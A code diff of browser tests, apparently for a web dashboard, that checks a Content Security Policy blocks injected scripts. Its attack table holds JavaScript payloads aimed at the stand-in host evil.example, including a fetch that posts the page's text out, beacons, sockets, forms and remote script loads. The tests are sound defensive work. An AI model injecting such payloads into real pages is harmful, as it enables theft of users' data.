@@ -4,13 +4,14 @@ import contextlib
 import re
 import socket
 import threading
+import time
 from collections.abc import Iterator
 
 import pytest
 from playwright.sync_api import Browser, Page
 from playwright.sync_api import Error as PlaywrightError
 
-from tests.browser.conftest import OpenPage, settle
+from tests.browser.conftest import OpenPage, go, settle
 from tests.web import attacks, plan
 from tests.web.served import Served, serving
 
@@ -44,8 +45,9 @@ def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
 def test_attacks_in_cells_are_never_run_fetched_linked_or_formatted(open_page: OpenPage, attacked: Served) -> None:
     """`open_page` also fails on any request to another host, any dialog and any script error."""
     seen: set[int] = set()
+    page = open_page(attacked)
     for address in ADDRESSES:
-        page = open_page(attacked, address)
+        go(page, attacked, address)
         _open_popovers_and_tooltips(page)
         body = page.locator("body")
         links = body.locator("a[href]").evaluate_all("links => links.map(link => link.getAttribute('href'))")
@@ -65,7 +67,6 @@ def test_attacks_in_cells_are_never_run_fetched_linked_or_formatted(open_page: O
             for typed in formatted:  # unchanged, with its punctuation
                 assert _words(typed)[:20] in _words(inside), (tag, typed)
         seen |= {int(mark[2:-1]) for mark in attacks.MARK.findall(body.inner_text())}
-        page.close()
     assert {number % len(attacks.ATTACKS) for number in seen} == set(range(len(attacks.ATTACKS)))
 
 
@@ -90,30 +91,30 @@ def _words(text: str) -> str:
 
 
 BREAKING_IN = {
-    "a picture from elsewhere": "const one = new Image(); one.src = 'http://evil.example/x.png';"
-    "document.body.append(one)",
-    "a script from elsewhere": "const one = document.createElement('script'); one.src = 'http://evil.example/x.js';"
-    "document.body.append(one)",
-    "a script in the page": "const one = document.createElement('script'); one.textContent = 'window.broken = 1';"
-    "document.body.append(one)",
-    "a handler": "const one = document.createElement('div'); one.setAttribute('onclick', 'window.broken = 1');"
-    "document.body.append(one); one.click()",
-    "a javascript: link": "const one = document.createElement('a'); one.href = 'javascript:window.broken=1';"
-    "document.body.append(one); one.click()",
+    "a picture from elsewhere": "const added = new Image(); added.src = 'http://evil.example/x.png';"
+    "document.body.append(added)",
+    "a script from elsewhere": "const added = document.createElement('script'); added.src = 'http://evil.example/x.js';"
+    "document.body.append(added)",
+    "a script in the page": "const added = document.createElement('script'); added.textContent = 'window.broken = 1';"
+    "document.body.append(added)",
+    "a handler": "const added = document.createElement('div'); added.setAttribute('onclick', 'window.broken = 1');"
+    "document.body.append(added); added.click()",
+    "a javascript: link": "const added = document.createElement('a'); added.href = 'javascript:window.broken=1';"
+    "document.body.append(added); added.click()",
     "eval": "setTimeout('window.broken = 1', 0)",
     "a letter home": "fetch('http://evil.example/', {method: 'POST', body: document.body.innerText}).catch(() => 0)",
     "a beacon": "navigator.sendBeacon('http://evil.example/', 'x')",
     "a socket": "try { new WebSocket('ws://evil.example/') } catch {}",
-    "a form": "const one = document.createElement('form'); one.action = 'http://evil.example/'; one.method = 'post';"
-    "document.body.append(one); one.submit()",
-    "a frame": "const one = document.createElement('iframe'); one.src = 'http://evil.example/';"
-    "document.body.append(one)",
-    "another base": "const one = document.createElement('base'); one.href = 'http://evil.example/';"
-    "document.head.append(one); const two = new Image(); two.src = 'x.png'; document.body.append(two)",
-    "a plug-in": "const one = document.createElement('object'); one.data = 'http://evil.example/x.swf';"
-    "document.body.append(one)",
-    "a style from elsewhere": "const one = document.createElement('link'); one.rel = 'stylesheet';"
-    "one.href = 'http://evil.example/x.css'; document.head.append(one)",
+    "a form": "const added = document.createElement('form'); added.action = 'http://evil.example/';"
+    "added.method = 'post'; document.body.append(added); added.submit()",
+    "a frame": "const added = document.createElement('iframe'); added.src = 'http://evil.example/';"
+    "document.body.append(added)",
+    "another base": "const added = document.createElement('base'); added.href = 'http://evil.example/';"
+    "document.head.append(added); const image = new Image(); image.src = 'x.png'; document.body.append(image)",
+    "a plug-in": "const added = document.createElement('object'); added.data = 'http://evil.example/x.swf';"
+    "document.body.append(added)",
+    "a style from elsewhere": "const added = document.createElement('link'); added.rel = 'stylesheet';"
+    "added.href = 'http://evil.example/x.css'; document.head.append(added)",
 }
 
 
@@ -146,33 +147,53 @@ def elsewhere() -> Iterator[tuple[str, list[str]]]:
         yield f"127.0.0.1:{listener.getsockname()[1]}", requests
 
 
-@pytest.mark.parametrize("guarded", [True, False], ids=["under the policy", "without it"])
+def try_to_break_in(page: Page, attack: str, address: str) -> None:
+    page.evaluate(
+        "() => { window.broken = null; window.stopped = false;"
+        " addEventListener('securitypolicyviolation', () => { window.stopped = true }) }"
+    )
+    with contextlib.suppress(PlaywrightError):  # some attacks navigate away
+        page.evaluate(f"() => {{ {BREAKING_IN[attack].replace('evil.example', address)} }}")
+
+
 def test_content_security_policy_stops_injected_scripts(
-    browser: Browser, sample: Served, elsewhere: tuple[str, list[str]], guarded: bool
+    browser: Browser, sample: Served, elsewhere: tuple[str, list[str]]
 ) -> None:
-    """Each attack works without the policy, so the test proves that the policy stops it."""
+    """The next test proves that each of these attacks works without the policy."""
     address, requests = elsewhere
     requests.clear()
-    context = browser.new_context(bypass_csp=not guarded)
-    succeeded = set()
-    tried = set(BREAKING_IN) - (set() if guarded else FRAMES)
-    page = None
-    for attack in sorted(tried):
-        if page is None or not guarded:  # some attacks navigate away
-            page = context.new_page()
-            page.goto(sample.url)
-            page.wait_for_selector("[data-testid=stApp]")
-        page.evaluate("() => { window.broken = null }")
-        with contextlib.suppress(PlaywrightError):
-            page.evaluate(f"() => {{ {BREAKING_IN[attack].replace('evil.example', address)} }}")
-        for _ in range(5 if guarded else 50):
-            page.wait_for_timeout(100)
-            if requests or page.evaluate("window.broken") is not None:
-                succeeded.add(attack)
+    page = browser.new_page()
+    go(page, sample, "")
+    for attack in BREAKING_IN:
+        try_to_break_in(page, attack, address)
+        page.wait_for_function("() => window.stopped || window.broken !== null")
+        assert page.evaluate("window.broken") is None, attack
+    page.wait_for_timeout(500)
+    assert requests == []
+    assert page.evaluate("window.broken") is None
+    page.close()
+
+
+def test_injected_scripts_work_without_the_content_security_policy(
+    browser: Browser, sample: Served, elsewhere: tuple[str, list[str]]
+) -> None:
+    address, requests = elsewhere
+    requests.clear()
+    page = browser.new_page(bypass_csp=True)
+    failed = set()
+    for attack in BREAKING_IN.keys() - FRAMES:
+        page.goto(sample.url)
+        page.wait_for_selector("[data-testid=stApp]")
+        try_to_break_in(page, attack, address)
+        until = time.monotonic() + 30
+        while not requests and page.evaluate("window.broken ?? null") is None:
+            if time.monotonic() > until:
+                failed.add(attack)
                 break
+            page.wait_for_timeout(20)
         requests.clear()
-    context.close()
-    assert succeeded == (set() if guarded else tried)
+    page.close()
+    assert failed == set()
 
 
 def test_dashboard_cannot_be_framed_by_another_site(browser: Browser, sample: Served) -> None:
